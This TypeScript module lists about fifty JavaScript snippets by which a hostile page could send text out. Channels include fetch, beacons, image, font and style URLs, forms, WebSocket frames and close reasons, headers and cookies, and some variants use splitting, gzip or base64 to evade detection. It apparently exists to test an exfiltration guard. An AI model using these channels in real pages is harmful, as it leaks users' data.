import { LOADS } from './loads';
import { RELAYS } from './relays';
import { TRICKS } from './tricks';
import { WORKERS } from './workers';

/** Ways in which a hostile page could send, each as the body of a function of `text`, run in the page. */
export const TRANSPORTS: Readonly<Record<string, string>> = {
  ...RELAYS,
  ...TRICKS,
  ...LOADS,
  ...WORKERS,
  fetch: `return fetch('/x', { method: 'POST', body: text })`,
  'a fetch that outlives the page': `fetch('/x', { method: 'POST', body: text, keepalive: true }); location = '/share/1'`,
  'a Request with a form': `const form = new FormData(); form.set('a', text);
    return fetch(new Request('/x', { method: 'POST', body: form }))`,
  'a gzip body': `const stream = new Blob([text]).stream().pipeThrough(new CompressionStream('gzip'));
    return fetch('/x', { method: 'POST', body: await new Response(stream).blob() })`,
  // A word before it, so that its letters aren't those that base64 of it alone has.
  'base64 in JSON': `return fetch('/x', { method: 'POST', body: JSON.stringify({ a: btoa('x ' + text) }) })`,
  'two requests': `const half = text.length >> 1;
    await fetch('/x', { method: 'POST', body: text.slice(0, half) });
    return fetch('/x', { method: 'POST', body: text.slice(half) })`,
  'a header': `return fetch('/x', { headers: { 'x-note': text } })`,
  'a request that was aborted': `const abort = new AbortController();
    const sent = fetch('/x', { method: 'POST', body: text + ' '.repeat(5e6), signal: abort.signal }).catch(() => 0);
    setTimeout(() => abort.abort(), 500); return sent`,
  XMLHttpRequest: `const request = new XMLHttpRequest(); request.open('POST', '/x', false); request.send(text)`,
  'a beacon': `navigator.sendBeacon('/x', new Blob([text]))`,
  'a query': `return fetch('/x?q=' + encodeURIComponent(text))`,
  'an image': `new Image().src = '/x?' + text`,
  'a style': `document.body.style.background = 'url(/x?' + text + ')'`,
  'a form': `const form = document.createElement('form'); form.method = 'post'; form.action = '/x';
    const field = document.createElement('input'); field.name = 'a'; field.value = text;
    form.append(field); document.body.append(form); form.submit()`,
  'the fetch of a frame': `const frame = document.createElement('iframe'); document.body.append(frame);
    return frame.contentWindow.fetch('/x', { method: 'POST', body: text })`,
  'frames of a WebSocket': `const socket = new WebSocket('wss://ws.chatgpt.com/x');
    socket.onopen = () => text.match(/.{1,4}/g).forEach((piece) => socket.send(piece))`,
  'UTF-16 frames of a WebSocket': `const socket = new WebSocket('wss://ws.chatgpt.com/x');
    socket.onopen = () => socket.send(Uint16Array.from(text, (character) => character.charCodeAt(0)))`,
  'another host': `return fetch('https://files.oaiusercontent.com/x', { method: 'PUT', body: text, headers: { 'x-a': 'b' } })`,
  navigation: `location = '/share/' + text`,
  'an XMLHttpRequest that waits for nobody': `const request = new XMLHttpRequest(); request.open('POST', '/x');
    const ended = new Promise((resolve) => { request.onloadend = resolve }); request.send(text); return ended`,
  'the query of an XMLHttpRequest': `const request = new XMLHttpRequest(); request.open('GET', '/x?q=' + encodeURIComponent(text));
    const ended = new Promise((resolve) => { request.onloadend = resolve }); request.send(); return ended`,
  'a header of an XMLHttpRequest': `const request = new XMLHttpRequest(); request.open('GET', '/x');
    request.setRequestHeader('x-note', text);
    const ended = new Promise((resolve) => { request.onloadend = resolve }); request.send(); return ended`,
  'a path': `return fetch('/x/' + encodeURIComponent(text) + '/y')`,
  'the address of a beacon': `navigator.sendBeacon('/x?' + encodeURIComponent(text))`,
  'the address of a WebSocket': `return new Promise((resolve) => {
    const socket = new WebSocket('wss://ws.chatgpt.com/x?' + encodeURIComponent(text)); socket.onopen = socket.onclose = resolve })`,
  'the protocol of a WebSocket': `const socket = new WebSocket('wss://ws.chatgpt.com/x', text)`,
  'the reason of a closed WebSocket': `const socket = new WebSocket('wss://ws.chatgpt.com/x');
    socket.onopen = () => socket.close(4000, text)`,
  'an EventSource': `new EventSource('/x?' + encodeURIComponent(text))`,
  'a cache': `const cache = await caches.open('x'); return cache.add('/x?' + encodeURIComponent(text)).catch(() => 0)`,
  'a font': `new FontFace('x', 'url(/x?' + encodeURIComponent(text) + ')').load().catch(() => 0)`,
  'a worker of its own address': `new Worker('/worker.js?' + encodeURIComponent(text))`,
  'a form that its script submits': `const form = document.createElement('form'); form.method = 'post'; form.action = '/x';
    const field = document.createElement('input'); field.name = 'a'; field.value = text;
    form.append(field); document.body.append(form); form.requestSubmit()`,
  'a form whose event is stopped': `const form = document.createElement('form'); form.method = 'post'; form.action = '/x';
    const field = document.createElement('input'); field.name = 'a'; field.value = text;
    form.onsubmit = (event) => event.stopImmediatePropagation();
    form.append(field); document.body.append(form); form.requestSubmit()`,
  'a form in a shadow root': `const host = document.body.appendChild(document.createElement('div'));
    const form = document.createElement('form'); form.method = 'post'; form.action = '/x';
    const field = document.createElement('input'); field.name = 'a'; field.value = text;
    form.append(field); host.attachShadow({ mode: 'closed' }).append(form); form.requestSubmit()`,
  'a form without a body': `const form = document.createElement('form'); form.action = '/share/1';
    const field = document.createElement('input'); field.name = 'a'; field.value = text;
    form.append(field); document.body.append(form); form.requestSubmit()`,
  'a form in a document that was opened again': `document.open(); document.write('<body></body>'); document.close();
    const form = document.createElement('form'); form.method = 'post'; form.action = '/x';
    const field = document.createElement('input'); field.name = 'a'; field.value = text;
    form.append(field); document.body.append(form); form.requestSubmit()`,
  'a link': `const link = document.createElement('a'); link.href = '/share/' + encodeURIComponent(text);
    document.body.append(link); link.click()`,
  'a link into a frame': `const frame = document.createElement('iframe'); frame.name = 'inner'; document.body.append(frame);
    const link = document.createElement('a'); link.target = 'inner'; link.href = '/x?' + encodeURIComponent(text);
    document.body.append(link); link.click()`,
  'the source of a frame': `const frame = document.createElement('iframe'); frame.src = '/x?' + encodeURIComponent(text);
    document.body.append(frame)`,
  'the ping of a link': `const link = document.createElement('a'); link.href = '#x'; link.ping = '/x?' + encodeURIComponent(text);
    document.body.append(link); link.click()`,
  'a window': `open('/x?' + encodeURIComponent(text))`,
  'an image in markup': `const box = document.createElement('div');
    box.innerHTML = '<img src="/x?' + encodeURIComponent(text) + '">'; document.body.append(box)`,
  'an attribute of an image': `document.createElement('img').setAttribute('src', '/x?' + encodeURIComponent(text))`,
  'a script': `const script = document.createElement('script'); script.src = '/x?' + encodeURIComponent(text);
    document.head.append(script)`,
  'a style sheet': `const link = document.createElement('link'); link.rel = 'stylesheet';
    link.href = '/x?' + encodeURIComponent(text); document.head.append(link)`,
  'a preload': `const link = document.createElement('link'); link.rel = 'preload'; link.as = 'fetch';
    link.href = '/x?' + encodeURIComponent(text); document.head.append(link)`,
  'a video': `const video = document.createElement('video'); video.src = '/x?' + encodeURIComponent(text)`,
  'an import': `return import('/x?' + encodeURIComponent(text)).catch(() => 0)`,
  'a cookie': `document.cookie = 'a=' + encodeURIComponent(text); return fetch('/x')`,
};
